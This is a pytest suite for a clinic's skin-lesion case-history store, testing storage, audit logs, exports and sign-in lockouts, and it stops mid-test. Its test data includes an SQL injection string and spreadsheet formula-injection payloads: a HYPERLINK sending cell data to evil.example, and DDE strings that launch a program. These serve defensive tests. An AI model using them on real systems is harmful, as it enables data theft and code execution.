"""Case history storage, on a SQLite file and on a real PostgreSQL server (.ci/postgres starts one in CI)."""

import csv
import datetime
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext
from argon2 import PasswordHasher
from PIL import Image
from sklearn.metrics import balanced_accuracy_score
from sqlalchemy import create_engine, func, select, text

from skin_core import paths
from skin_core.cases import (AUDIT_ACTIONS, COMMAND_LINE, CaseDraft, CaseNotFoundError, CaseStore,
                             DatabaseUnavailableError, InvalidCaseError, NotAllowedError, UserInactiveError, UserInfo,
                             clinic_validation)
from skin_core.cases import __main__ as cli
from skin_core.cases import store as store_module
from skin_core.cases.schema import AuditEntry, Base, Case, CaseImages, NoteVersion, SignInAttempt, User
from skin_core.classes import CLASS_CODES, MALIGNANT_CODES

ADMIN = UserInfo("admin", "admin")
DOCTOR = UserInfo("lan", "doctor")
PASSWORD = "correct horse battery"
POSTGRES_ENV = "SKIN_TEST_POSTGRES_URL"


def postgres_url() -> str:
    url = os.environ.get(POSTGRES_ENV)
    if not url:
        message = f"needs a PostgreSQL server: set {POSTGRES_ENV} (source .ci/postgres starts one)"
        if os.environ.get("SKIN_REQUIRE_POSTGRES") == "1":
            pytest.fail(message)
        pytest.skip(message)
    return url


def empty_postgres() -> str:
    url = postgres_url()
    engine = create_engine(url)
    with engine.begin() as connection:
        connection.execute(text("DROP SCHEMA public CASCADE"))
        connection.execute(text("CREATE SCHEMA public"))
    engine.dispose()
    return url


@pytest.fixture(params=["sqlite", "postgresql"])
def database(request, tmp_path) -> str:
    return str(tmp_path / "clinic" / "cases.db") if request.param == "sqlite" else empty_postgres()


def with_staff(store: CaseStore, *users: UserInfo) -> CaseStore:
    """The store with these users (default: ADMIN and DOCTOR) registered: every action checks that its user
    exists and is active."""
    known = {row["username"] for row in store.users(COMMAND_LINE)}
    for user in users or (ADMIN, DOCTOR):
        if user.username not in known:
            store.add_user(user.username, PASSWORD, user.role)
    return store


@pytest.fixture
def store(database):
    opened = with_staff(CaseStore.open(database))
    yield opened
    opened.close()


def photo_bytes(colour=(150, 90, 60), size=(300, 400), format="PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size[::-1], colour).save(buffer, format=format)
    return buffer.getvalue()


def draft(patient="BN-001", top="nv", malignant=None, threshold=0.3, **fields) -> CaseDraft:
    """A case whose top class is ``top``; its malignant probability is the malignant classes' sum, as a
    Predictor's is, unless ``malignant`` sets it."""
    rest = (1.0 - 0.6) / (len(CLASS_CODES) - 1)
    probabilities = {code: (0.6 if code == top else rest) for code in CLASS_CODES}
    if malignant is None:
        malignant = sum(probabilities[code] for code in MALIGNANT_CODES)
    settings = dict(patient_code=patient, model_name="ensemble-x", model_version="1.0", probabilities=probabilities,
                    malignant_probability=malignant, malignancy_threshold=threshold, low_confidence=False,
                    photo=photo_bytes(), photo_name="lesion.png", lesion_label="left shoulder, lesion 1",
                    visit_date=datetime.date(2026, 11, 1), age=54, sex="female", site="back")
    return CaseDraft(**{**settings, **fields})


def count(store, table) -> int:
    with store.engine.connect() as connection:
        return connection.scalar(select(func.count()).select_from(table))


def audit_actions(store) -> list[str]:
    return [entry["action"] for entry in reversed(store.audit_log(COMMAND_LINE))]


def test_schema_matches_the_migrations(store):
    """The ORM tables and what the Alembic revisions build agree (a change to one needs the other)."""
    with store.engine.connect() as connection:
        assert compare_metadata(MigrationContext.configure(connection), Base.metadata) == []


@pytest.mark.parametrize("storage", ["full", "thumbnail", "none"])
def test_saved_case_comes_back_as_saved(store, storage):
    store.change_settings(ADMIN, photo_storage=storage)
    attention = np.tile(np.linspace(0, 1, 400, dtype=np.float32), (300, 1))
    original = draft(malignant=0.45, threshold=0.3, attention=attention, gate_reason="ok", gate_score=0.02)
    case_id = store.save_case(DOCTOR, original)
    case = store.open_case(DOCTOR, case_id)
    assert case.probabilities == pytest.approx(original.probabilities)
    assert case.ranked[0] == ("nv", pytest.approx(0.6)) and case.top_code == "nv"
    assert case.malignancy_alert and case.malignant_probability == pytest.approx(0.45)
    assert (case.patient_code, case.lesion_label, case.visit_date, case.age, case.sex, case.site) == (
        "BN-001", "left shoulder, lesion 1", datetime.date(2026, 11, 1), 54, "female", "back")
    assert (case.gate_reason, case.gate_score, case.created_by, case.photo_storage) == ("ok", 0.02, "lan", storage)
    if storage == "none":
        assert case.photo is None and case.attention is None
        return
    if storage == "full":
        assert case.photo == original.photo and case.photo_media_type == "image/png"
    else:
        thumbnail = Image.open(io.BytesIO(case.photo))
        assert thumbnail.format == "JPEG" and max(thumbnail.size) == store_module.THUMBNAIL_SIDE
    assert case.attention.shape[1] == store_module.ATTENTION_SIDE
    reference = np.linspace(0, 1, case.attention.shape[1])
    assert np.abs(case.attention.mean(axis=0) - reference).max() < 0.02


def test_filters_find_what_a_doctor_asks_for(store):
    ids = {
        "a": store.save_case(DOCTOR, draft("BN-001", visit_date=datetime.date(2026, 9, 1))),
        "b": store.save_case(DOCTOR, draft("BN-001", top="mel", malignant=0.8, visit_date=datetime.date(2026, 11, 1))),
        "c": store.save_case(DOCTOR, draft("HN_7%", visit_date=datetime.date(2026, 10, 15))),
    }
    store.confirm(DOCTOR, ids["b"], "mel", "histopathology", datetime.date(2026, 11, 20))

    def found(**filters):
        return {case.id for case in store.find_cases(DOCTOR, **filters)}

    assert found() == set(ids.values())
    assert [c.id for c in store.find_cases(DOCTOR)] == [ids["b"], ids["c"], ids["a"]]  # newest visit first
    assert found(patient_code="bn-00") == {ids["a"], ids["b"]}
    assert found(patient_code="N_7%") == {ids["c"]} and found(patient_code="_") == {ids["c"]}
    assert found(date_from=datetime.date(2026, 10, 1), date_to=datetime.date(2026, 10, 31)) == {ids["c"]}
    assert found(diagnosis="mel") == {ids["b"]} and found(alert=True) == {ids["b"]}
    assert found(unconfirmed=True) == {ids["a"], ids["c"]}


def test_two_visits_of_one_lesion_are_paired(store):
    first = store.save_case(DOCTOR, draft(visit_date=datetime.date(2026, 5, 2)))
    store.save_case(DOCTOR, draft(lesion_label="back, lesion 2"))
    second = store.save_case(DOCTOR, draft(visit_date=datetime.date(2026, 11, 2), top="mel", malignant=0.7))
    assert [v.id for v in store.lesion_visits(DOCTOR, second)] == [first, second]


def test_clinic_validation_agrees_with_scikit_learn(store):
    rng = np.random.default_rng(3)
    truths = rng.choice(CLASS_CODES, 40)
    predicted = np.where(rng.random(40) < 0.6, truths, rng.choice(CLASS_CODES, 40))
    for truth, top in zip(truths, predicted):
        case_id = store.save_case(DOCTOR, draft(top=top, threshold=0.4))
        store.confirm(DOCTOR, case_id, truth, "histopathology", datetime.date(2026, 11, 20))
    other = store.save_case(DOCTOR, draft())
    store.confirm(DOCTOR, other, "other", "specialist", datetime.date(2026, 11, 21))
    store.save_case(DOCTOR, draft())  # unconfirmed: not counted

    [report] = clinic_validation(store.confirmed_cases(DOCTOR))
    assert (report.model_name, report.n, report.outside_classes) == ("ensemble-x", 40, 1)
    assert report.sources == {"histopathology": 40, "specialist": 1}
    assert report.report["balanced_accuracy"] == pytest.approx(balanced_accuracy_score(truths, predicted), abs=1e-6)
    is_malignant = np.isin(truths, MALIGNANT_CODES)
    alert = np.isin(predicted, MALIGNANT_CODES)  # 0.6 + 2 x 0.067 >= 0.4; otherwise 3 x 0.067 < 0.4
    assert report.n_malignant == is_malignant.sum()
    assert report.report["malignant"]["sensitivity"] == pytest.approx(alert[is_malignant].mean())
    assert report.report["malignant"]["specificity"] == pytest.approx((~alert[~is_malignant]).mean())
    assert not report.enough_cases  # 40 < MIN_CASES: the page warns
    assert 0 < report.sensitivity_lower_bound < report.report["malignant"]["sensitivity"]


def test_only_an_admin_exports_deletes_and_manages(store):
    case_id = store.save_case(DOCTOR, draft())
    for action in (lambda by: store.export(by, [case_id]), lambda by: store.delete_patient(by, "BN-001"),
                   lambda by: store.users(by), lambda by: store.add_user("x-user", "long-password", by=by),
                   lambda by: store.change_settings(by, auto_save=True), lambda by: store.audit_log(by)):
        with pytest.raises(NotAllowedError):
            action(DOCTOR)
    assert count(store, Case) == 1


def test_every_view_edit_export_and_deletion_is_audited(store):
    case_id = store.save_case(DOCTOR, draft())
    store.find_cases(DOCTOR, patient_code="BN")
    store.open_case(DOCTOR, case_id)
    store.edit_note(DOCTOR, case_id, "seen again")
    store.confirm(DOCTOR, case_id, "nv", "follow_up", datetime.date(2026, 11, 25))
    store.export(ADMIN, [case_id])
    store.delete_patient(ADMIN, "BN-001")
    assert audit_actions(store)[2:] == ["save", "search", "view", "edit_note", "confirm", "export", "delete_patient"]
    entries = store.audit_log(ADMIN)
    assert entries[0]["user"] == "admin" and entries[0]["detail"].endswith(f": 1 cases [{case_id}]")
    assert {e["user"] for e in entries if e["action"] in ("save", "view", "confirm")} == {"lan"}
    assert set(audit_actions(store)) <= set(AUDIT_ACTIONS)  # the Settings page's action filter offers them all


def test_export_as_csv_and_zip(store):
    store.change_settings(ADMIN, photo_storage="full")
    first = store.save_case(DOCTOR, draft(note="Tổn thương tăng kích thước; \"so sánh\" lần sau 🙂"))
    second = store.save_case(DOCTOR, draft("BN-002", photo=photo_bytes(format="JPEG"), age=47))
    table = store.export(ADMIN, [first, second])
    assert b'"BN-002",' in table and b",47," in table and b"47.0" not in table  # ages as typed
    assert table.startswith(b"\xef\xbb\xbf")  # spreadsheet programs read it as UTF-8
    frame = pd.read_csv(io.BytesIO(table), encoding="utf-8-sig")
    assert list(frame["id"]) == [first, second]
    assert frame.loc[0, "note"] == "Tổn thương tăng kích thước; \"so sánh\" lần sau 🙂"
    assert frame[[f"p_{code}" for code in CLASS_CODES]].sum(axis=1).to_numpy() == pytest.approx([1, 1])
    with zipfile.ZipFile(io.BytesIO(store.export(ADMIN, [first, second], photos=True))) as archive:
        assert sorted(archive.namelist()) == ["cases.csv", f"photos/case-{first}.png", f"photos/case-{second}.jpg"]
        assert archive.read(f"photos/case-{first}.png") == photo_bytes()


def test_deleting_a_patient_removes_only_their_data(store):
    store.change_settings(ADMIN, photo_storage="thumbnail")
    for _ in range(2):
        gone = store.save_case(DOCTOR, draft("BN-001", note="first"))
    store.edit_note(DOCTOR, gone, "second")
    kept = store.save_case(DOCTOR, draft("BN-002", note="kept"))
    assert store.delete_patient(ADMIN, "BN-001") == 2
    assert [c.id for c in store.find_cases(DOCTOR)] == [kept]
    assert count(store, CaseImages) == 1
    assert count(store, NoteVersion) == 1  # every version of the deleted patient's notes went with the cases
    assert store.delete_patient(ADMIN, "BN-001") == 0


ODD_TEXTS = ["O'Brien \"quoted\" `back`", "Robert'); DROP TABLE cases;--", "nốt ruồi ở vai trái, bờ không đều",
             "🙂🩺🔬 emoji", "% _ \\ wildcard characters", "x" * 10_000, "line one\nline two\ttab"]


@pytest.mark.parametrize("note", ODD_TEXTS, ids=range(len(ODD_TEXTS)))
def test_odd_notes_are_stored_verbatim(store, note):
    label = " ".join(note[:100].split())  # one line: a label with a line break is refused
    case_id = store.save_case(DOCTOR, draft(note=note, lesion_label=label))
    case = store.open_case(DOCTOR, case_id)
    assert case.note == note and case.lesion_label == label
    store.edit_note(DOCTOR, case_id, note[::-1])
    assert store.open_case(DOCTOR, case_id).note == note[::-1]
    assert count(store, Case) == 1


@pytest.mark.parametrize(("fields", "field", "problem"), ids=range(5), argvalues=[
    ({"note": "x" * 10_001}, "Note", "too_long"), ({"patient_code": "p" * 65}, "Patient code", "too_long"),
    ({"patient_code": "   "}, "Patient code", "required"), ({"note": "a\x00b"}, "Note", "control_characters"),
    ({"lesion_label": "l" * 121}, "Lesion", "too_long")])
def test_what_cannot_be_stored_is_refused_with_a_reason(store, fields, field, problem):
    with pytest.raises(InvalidCaseError) as refused:
        store.save_case(DOCTOR, draft(**fields))
    assert (refused.value.field, refused.value.problem) == (field, problem)
    assert field in str(refused.value)
    assert count(store, Case) == 0


def test_a_save_cut_short_leaves_no_half_case(store, monkeypatch):
    def fail(*args, **kwargs):
        raise ConnectionError("connection lost")

    store.change_settings(ADMIN, photo_storage="full")
    monkeypatch.setattr(store_module, "_audit", fail)  # the case row and its photo are written by then
    with pytest.raises(ConnectionError):
        store.save_case(DOCTOR, draft())
    assert count(store, Case) == 0 and count(store, CaseImages) == 0


KILLED_WRITER = """
import sys
from tests.test_cases import DOCTOR, draft, photo_bytes
from skin_core.cases import CaseStore
store = CaseStore.open(sys.argv[1])  # the test registered DOCTOR
for index in range(10_000):
    store.save_case(DOCTOR, draft(f"BN-{index}", photo=photo_bytes(size=(900, 1200), format="BMP")))
"""


def test_a_writer_killed_mid_save_leaves_only_whole_cases(tmp_path):
    """SIGKILL a process in the middle of saving cases with full-size photos: what it left is whole."""
    database = str(tmp_path / "cases.db")
    store = with_staff(CaseStore.open(database))
    store.change_settings(ADMIN, photo_storage="full")
    writer = subprocess.Popen([sys.executable, "-c", KILLED_WRITER, database], cwd=Path(__file__).parent.parent)
    try:
        deadline = time.monotonic() + 120
        while count(store, Case) < 5 and writer.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        assert writer.poll() is None, "the writer stopped by itself"
    finally:
        writer.send_signal(signal.SIGKILL)
        writer.wait()
    store.close()
    store = CaseStore.open(database)  # opening after a crash: SQLite rolls the torn transaction back
    saved = count(store, Case)
    assert saved >= 5 and count(store, CaseImages) == saved
    with store.engine.connect() as connection:
        audited = connection.scalar(select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "save"))
    assert audited == saved
    store.save_case(DOCTOR, draft())  # and it takes new cases
    store.close()


def test_eight_doctors_save_and_read_at_once(database):
    saves_each = 6
    doctors = [UserInfo(f"doctor-{index}", "doctor") for index in range(8)]
    store = with_staff(CaseStore.open(database), ADMIN, *doctors)
    store.change_settings(ADMIN, photo_storage="thumbnail")
    errors, saved = [], []

    def doctor(index):
        user = UserInfo(f"doctor-{index}", "doctor")
        try:
            for visit in range(saves_each):
                case_id = store.save_case(user, draft(f"BN-{index}", note=f"visit {visit} by {index}"))
                saved.append(case_id)
                assert store.open_case(user, case_id).note == f"visit {visit} by {index}"
                store.find_cases(user, patient_code=f"BN-{index}")
                store.edit_note(user, case_id, f"checked {visit}")
        except Exception as error:  # noqa: BLE001 - every failure is reported below
            errors.append(error)

    threads = [threading.Thread(target=doctor, args=(i,)) for i in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len(set(saved)) == 8 * saves_each == count(store, Case) == count(store, CaseImages)
    for index in range(8):
        notes = sorted(c.note for c in store.find_cases(ADMIN, patient_code=f"BN-{index}"))
        assert notes == sorted(f"checked {v}" for v in range(saves_each))
    assert count(store, AuditEntry) >= 8 * saves_each * 4
    store.close()


def test_a_database_from_the_first_version_is_migrated_on_start(database):
    engine = store_module._engine(store_module.database_url(database))
    store_module.upgrade(engine, "0001")
    with engine.begin() as connection:
        connection.execute(Case.__table__.insert().values(
            patient_code="OLD-1", lesion_label="", visit_date=datetime.date(2026, 1, 5),
            created_at=datetime.datetime(2026, 1, 5, 9), created_by="lan", clinic="", clinician="", age=None,
            sex="male", site="face", model_name="mobilenetv2", model_version="1.0", gate_reason=None,
            gate_problem=None, gate_score=None, probabilities={code: 1 / 7 for code in CLASS_CODES},
            top_code="akiec", malignant_probability=0.43, malignancy_threshold=0.3, malignancy_alert=True,
            low_confidence=True, photo_name="", photo_sha256="0" * 64, photo_storage="none", note="from 0001"))
        assert connection.scalar(text("SELECT version_num FROM alembic_version")) == "0001"
    engine.dispose()
    store = with_staff(CaseStore.open(database))
    [old] = store.find_cases(DOCTOR)
    assert (old.patient_code, old.note) == ("OLD-1", "from 0001")
    [version] = store.open_case(DOCTOR, old.id).note_versions  # the note as it was becomes its first version
    assert (version.text, version.edited_by, version.edited_at) == (
        "from 0001", "lan", datetime.datetime(2026, 1, 5, 9, tzinfo=datetime.timezone.utc))
    store.change_settings(ADMIN, auto_save=True)  # the table revision 0002 added
    assert store.settings() == {"photo_storage": "thumbnail", "auto_save": True}
    store.close()


def test_passwords_are_argon2_hashes_and_logins_are_logged(store):
    with store.engine.connect() as connection:
        stored = connection.scalar(text("SELECT password_hash FROM users WHERE username = 'lan'"))
    assert stored.startswith("$argon2id$") and "correct horse" not in stored
    assert store.authenticate("lan", "correct horse battery") == DOCTOR
    assert store.authenticate("lan", "wrong password") is None
    assert store.authenticate("nobody", "correct horse battery") is None
    assert store.is_active(DOCTOR) and not store.is_active(UserInfo("lan", "admin"))
    store.set_user("lan", by=ADMIN, active=False)
    assert not store.is_active(DOCTOR)
    assert store.authenticate("lan", "correct horse battery") is None
    assert audit_actions(store)[-5:] == ["login", "login_failed", "login_failed", "change_user", "login_failed"]
    with pytest.raises(InvalidCaseError, match="at least 8"):
        store.add_user("short", "1234567")
    with pytest.raises(InvalidCaseError):
        store.add_user("lan", "another password")  # taken
    with pytest.raises(CaseNotFoundError):
        store.open_case(ADMIN, 999)


def test_a_deactivated_user_can_do_nothing_more(store):
    """The account is checked inside each action's own transaction: nothing is saved, changed, shown or
    exported for a user deactivated (or given another role) since signing in."""
    case_id = store.save_case(DOCTOR, draft())
    other_admin = UserInfo("chi", "admin")
    with_staff(store, other_admin)
    store.set_user("lan", by=ADMIN, active=False)
    store.set_user("admin", by=other_admin, role="doctor")
    before = audit_actions(store)
    for user, action in ((DOCTOR, lambda by: store.save_case(by, draft())),
                         (DOCTOR, lambda by: store.edit_note(by, case_id, "changed")),
                         (DOCTOR, lambda by: store.confirm(by, case_id, "mel", "histopathology",
                                                           datetime.date(2026, 12, 1))),
                         (DOCTOR, lambda by: store.open_case(by, case_id)),
                         (DOCTOR, lambda by: store.find_cases(by)),
                         (ADMIN, lambda by: store.export(by, [case_id])),
                         (ADMIN, lambda by: store.delete_patient(by, "BN-001")),
                         (ADMIN, lambda by: store.set_user("chi", by=by, active=False))):
        with pytest.raises(UserInactiveError):
            action(user)
    assert audit_actions(store) == before
    case = store.open_case(other_admin, case_id)
    assert case.note == "" and case.final_diagnosis is None and count(store, Case) == 1


def test_command_line_adds_users_and_backs_up(tmp_path, monkeypatch, capsys):
    database = str(tmp_path / "cases.db")
    monkeypatch.setattr("sys.stdin", io.StringIO("a long password\n"))
    assert cli.main(["--database", database, "add-user", "chi", "--role", "admin", "--password-stdin"]) == 0
    store = CaseStore.open(database)
    assert store.authenticate("chi", "a long password") == UserInfo("chi", "admin")
    with_staff(store).save_case(DOCTOR, draft())
    assert cli.main(["--database", database, "backup", str(tmp_path / "backup" / "copy.db")]) == 0
    copy = CaseStore.open(str(tmp_path / "backup" / "copy.db"))
    assert [c.patient_code for c in copy.find_cases(ADMIN)] == ["BN-001"]
    assert cli.main(["--database", database, "backup", str(tmp_path / "backup" / "copy.db")]) == 2  # no overwrite
    assert "exists already" in capsys.readouterr().err
    monkeypatch.delenv(store_module.DATABASE_ENV, raising=False)
    monkeypatch.setattr(store_module, "SECRETS_FILE", tmp_path / "absent.toml")
    assert cli.main(["list-users"]) == 2 and "No case-history database" in capsys.readouterr().err
    secrets = tmp_path / "secrets.toml"
    secrets.write_text(f'[cases]\ndatabase = "{database}"\n', encoding="utf-8")
    monkeypatch.setattr(store_module, "SECRETS_FILE", secrets)
    assert cli.main(["list-users"]) == 0 and "chi\tadmin\tactive" in capsys.readouterr().out
    store.close()
    copy.close()


def test_postgresql_backup_points_to_pg_dump():
    store = CaseStore.open(empty_postgres())
    with pytest.raises(store_module.CaseError, match="pg_dump"):
        store.backup("/tmp/never.db")
    store.close()


def test_unreachable_database_gives_a_clear_message(tmp_path):
    with pytest.raises(DatabaseUnavailableError, match="cannot be opened"):
        CaseStore.open("postgresql+psycopg://nobody@127.0.0.1:9/none?connect_timeout=2")
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(DatabaseUnavailableError):
        CaseStore.open(str(blocker / "cases.db"))  # its folder is a file


def test_five_failed_sign_ins_lock_the_name_for_a_while(store):
    for _ in range(store_module.LOGIN_ATTEMPTS):
        assert store.authenticate("lan", "guess") is None
    with pytest.raises(NotAllowedError, match="15 minutes"):
        store.authenticate("lan", "correct horse battery")
    assert store.authenticate("chi", "anything") is None  # other names are not locked
    assert audit_actions(store)[-2:] == ["login_refused", "login_failed"]
    entries = store.audit_log(ADMIN)
    assert all(entry["at"].tzinfo is not None for entry in entries)
    a_quarter_later(store)
    assert store.authenticate("lan", "correct horse battery") == DOCTOR


def a_quarter_later(store) -> None:
    """Every sign-in so far as if made 16 minutes ago: past the lockout."""
    with store.engine.begin() as connection:
        for table in (AuditEntry.__table__, SignInAttempt.__table__):
            connection.execute(table.update().values(
                at=datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=16)))


# sign-in floods -----------------------------------------------------------------------------------------------


def hasher_calling(monkeypatch, method: str, before) -> None:
    """The store's password hasher, calling ``before()`` first in ``method`` ("verify" or "hash")."""
    def wrapped(self, *args, **kwargs):
        before()
        return getattr(PasswordHasher, method)(self, *args, **kwargs)

    monkeypatch.setattr(store_module, "_hasher", type("Hasher", (PasswordHasher,), {method: wrapped})())


@pytest.fixture
def impatient_store(tmp_path, monkeypatch):
    """A SQLite store whose connections give up after 0.3 s instead of 30 s: a call that would wait for a lock
    fails (DatabaseUnavailableError) instead of passing late."""
    monkeypatch.setattr(store_module, "SQLITE_BUSY_TIMEOUT_S", 0.3)
    opened = with_staff(CaseStore.open(str(tmp_path / "cases.db")))
    yield opened
    opened.close()


def test_reading_never_waits_for_a_writer(impatient_store):
    """While another connection holds SQLite's write lock, what only reads answers at once."""
    store = impatient_store
    with store.engine.begin() as writer:  # BEGIN IMMEDIATE: the write lock, held until the block ends
        writer.execute(AuditEntry.__table__.insert().values(at=datetime.datetime.now(datetime.timezone.utc),
                                                            username="x", action="x", detail=""))
        assert store.is_active(DOCTOR) and store.has_users()
        assert store.settings()["photo_storage"] == "thumbnail"
        assert [u["username"] for u in store.users(ADMIN)] == ["admin", "lan"]
        assert store.audit_log(ADMIN)[0]["action"] == "add_user"
    assert store.is_active(DOCTOR)


@pytest.mark.parametrize("slow", ["verify", "hash"])
def test_a_password_being_checked_or_hashed_holds_up_no_one(impatient_store, monkeypatch, slow):
    """argon2 takes a while on purpose: meanwhile a doctor saves and opens cases (the 0.3 s busy timeout would
    refuse them if the password work held the write lock)."""
    store, started, release, outcome = impatient_store, threading.Event(), threading.Event(), []

    def held():
        started.set()
        release.wait(timeout=60)

    hasher_calling(monkeypatch, slow, held)
    work = (lambda: store.authenticate("lan", PASSWORD)) if slow == "verify" else (
        lambda: store.add_user("minh", "minh's long passphrase", "doctor", by=ADMIN))
    thread = threading.Thread(target=lambda: outcome.append(work()))
    thread.start()
    try:
        assert started.wait(timeout=60)
        case_id = store.save_case(DOCTOR, draft())
        assert store.open_case(DOCTOR, case_id).patient_code == "BN-001"
    finally:
        release.set()
        thread.join()
    assert outcome == [DOCTOR if slow == "verify" else None]


def test_concurrent_wrong_passwords_get_no_more_checks_than_the_limit(store, monkeypatch):
    """30 tries at once for one name from one address: LOGIN_ATTEMPTS passwords are checked, the rest are
    refused without one (the attempt is counted and recorded in one step)."""
    checks, lock, barrier = [], threading.Lock(), threading.Barrier(30)

    def counted():
        with lock:
            checks.append(1)
        time.sleep(0.05)  # a slower check: more tries arrive meanwhile

    hasher_calling(monkeypatch, "verify", counted)
    results, errors = [], []

    def guess():
        barrier.wait()
        try:
            results.append(store.authenticate("lan", "wrong guess", "203.0.113.9"))
        except NotAllowedError:
            results.append("refused")
        except Exception as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=guess) for _ in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len(checks) == store_module.LOGIN_ATTEMPTS
    assert results.count(None) == store_module.LOGIN_ATTEMPTS and results.count("refused") == 25
    actions = audit_actions(store)
    assert actions.count("login_failed") == store_module.LOGIN_ATTEMPTS and actions.count("login_refused") == 25


def test_guessing_from_one_address_does_not_lock_the_name_out_elsewhere(store):
    stranger, desk = "203.0.113.9", "10.0.0.21"
    for _ in range(store_module.LOGIN_ATTEMPTS):
        assert store.authenticate("admin", "guess", stranger) is None
    with pytest.raises(NotAllowedError, match="for admin from 203.0.113.9"):
        store.authenticate("admin", PASSWORD, stranger)
    assert store.authenticate("admin", PASSWORD, desk) == ADMIN  # the admin at their own desk
    # many names from one address: that address is refused for every name, others are not
    for index in range(store_module.ADDRESS_ATTEMPTS - store_module.LOGIN_ATTEMPTS):
        assert store.authenticate(f"name-{index}", "guess", stranger) is None
    with pytest.raises(NotAllowedError, match="from 203.0.113.9"):
        store.authenticate("lan", PASSWORD, stranger)
    assert store.authenticate("lan", PASSWORD, desk) == DOCTOR
    entry = store.audit_log(ADMIN)[1]
    assert (entry["action"], entry["user"]) == ("login_refused", "lan") and "203.0.113.9" in entry["detail"]
    a_quarter_later(store)
    assert store.authenticate("lan", PASSWORD, stranger) == DOCTOR


def flood_of_failed_sign_ins(store, tries: int, start: datetime.datetime, every_s: float = 2, name="admin") -> None:
    """``tries`` failed sign-ins of ``name`` from a stranger's address, one every ``every_s`` seconds from
    ``start``, as authenticate logs them (written directly: hundreds of argon2 checks would take minutes)."""
    with store.engine.begin() as connection:
        connection.execute(AuditEntry.__table__.insert(), [
            dict(at=start + datetime.timedelta(seconds=every_s * i), username=name, action="login_failed",
                 case_id=None, detail="from 203.0.113.9") for i in range(tries)])


def test_a_flood_of_failed_sign_ins_does_not_bury_the_audit_log(store):
    """520 failed sign-ins filled the old 500-row view: the doctor's work stays findable by user, action and
    date, the flood shows as one row with its count, and paging reaches the oldest entry."""
    case_id = store.save_case(DOCTOR, draft())
    with store.engine.begin() as connection:  # the save was made on 15 January
        connection.execute(AuditEntry.__table__.update().where(AuditEntry.action == "save").values(
            at=datetime.datetime(2026, 1, 15, 9, 30, tzinfo=datetime.timezone.utc)))
    flood_of_failed_sign_ins(store, 520, store_module._now() - datetime.timedelta(hours=1))
    store.open_case(DOCTOR, case_id)
    everything = store.audit_log(ADMIN, limit=100)
    assert everything.total == 2 + 1 + 520 + 1 and "save" not in [e["action"] for e in everything]  # buried

    mine = store.audit_log(ADMIN, limit=100, user="LAN")
    assert [(e["action"], e["case"]) for e in mine] == [("view", case_id), ("save", case_id)] and mine.total == 2
    saves = store.audit_log(ADMIN, actions=("save", "confirm"))
    assert [e["case"] for e in saves] == [case_id] and saves.total == 1
    utc = datetime.timezone.utc
    that_day = store.audit_log(ADMIN, since=datetime.datetime(2026, 1, 15, tzinfo=utc),
                               before=datetime.datetime(2026, 1, 16, tzinfo=utc))
    assert [e["action"] for e in that_day] == ["save"]

    grouped = store.audit_log(ADMIN, limit=100, grouped=True)
    assert [(e["action"], e["times"]) for e in grouped] == [("view", 1), ("login_failed", 520), ("save", 1),
                                                            ("add_user", 1), ("add_user", 1)]
    assert grouped.total == 5
    run = grouped[1]
    assert (run["at"] - run["first"]).total_seconds() == pytest.approx(519 * 2)
    assert run["user"] == "admin" and run["detail"] == "from 203.0.113.9"

    oldest, offset = None, 0
    while offset < everything.total:
        page = store.audit_log(ADMIN, limit=100, offset=offset)
        assert len(page) == min(100, everything.total - offset)
        oldest, offset = page[-1], offset + len(page)
    assert (oldest["action"], oldest["detail"]) == ("add_user", "admin (admin)")


def test_failed_sign_ins_are_grouped_by_name_and_by_pause(store):
    """A run is one name's failures each within a minute of the one before: a pause of five minutes starts
    another, another name's failures in between do not break it, and a real sign-in is never grouped."""
    start = store_module._now() - datetime.timedelta(hours=2)
    flood_of_failed_sign_ins(store, 30, start)
    flood_of_failed_sign_ins(store, 3, start + datetime.timedelta(seconds=1), name="lan")
    flood_of_failed_sign_ins(store, 20, start + datetime.timedelta(minutes=6))
    for _ in range(2):
        store.authenticate("admin", PASSWORD)
    rows = [(e["user"], e["action"], e["times"]) for e in store.audit_log(ADMIN, actions=(
        "login", "login_failed"), grouped=True)]
    assert rows == [("admin", "login", 1), ("admin", "login", 1), ("admin", "login_failed", 20),
                    ("lan", "login_failed", 3), ("admin", "login_failed", 30)]


def test_a_note_keeps_every_version_and_each_edit_is_one_audit_entry(store):
    case_id = store.save_case(DOCTOR, draft(note="Bờ đều, theo dõi."))
    store.open_case(DOCTOR, case_id)
    before = store.audit_log(ADMIN).total
    store.edit_note(ADMIN, case_id, "Bờ không đều: sinh thiết.")
    store.edit_note(DOCTOR, case_id, "Bờ không đều: sinh thiết.")  # saved again unchanged: no new version
    store.find_cases(DOCTOR, audit=False)  # the page reads again what the doctor already sees: not logged
    case = store.open_case(DOCTOR, case_id, audit=False)
    assert case.note == "Bờ không đều: sinh thiết."
    assert [(v.number, v.text, v.edited_by) for v in case.note_versions] == [
        (1, "Bờ đều, theo dõi.", "lan"), (2, "Bờ không đều: sinh thiết.", "admin")]
    assert case.note_versions[0].edited_at == case.created_at
    assert case.note_versions[1].edited_at.tzinfo is not None
    entries = store.audit_log(ADMIN, limit=2)
    assert entries.total == before + 2
    assert [(e["user"], e["action"], e["case"], e["detail"]) for e in entries] == [
        ("lan", "edit_note", case_id, "version 2, unchanged"), ("admin", "edit_note", case_id, "version 2")]
    assert store.open_case(DOCTOR, store.save_case(DOCTOR, draft())).note_versions == []  # no note, no version


# exports -------------------------------------------------------------------------------------------------------


FORMULAS = {"note": '=HYPERLINK("http://evil.example/?x="&A1,"see")', "lesion_label": "+1+cmd|' /C calc'!A0",
            "clinician": "@SUM(1+1)*cmd|' /C calc'!A0", "clinic": "-2+3", "patient": "=1+1"}


def test_export_neutralises_spreadsheet_formulas(store):
    """Texts that a spreadsheet would run as formulas come out with a leading single quote (OWASP), quoted,
    in the CSV and in the ZIP; everything else comes out as it was."""
    first = store.save_case(DOCTOR, draft(FORMULAS["patient"], note=FORMULAS["note"],
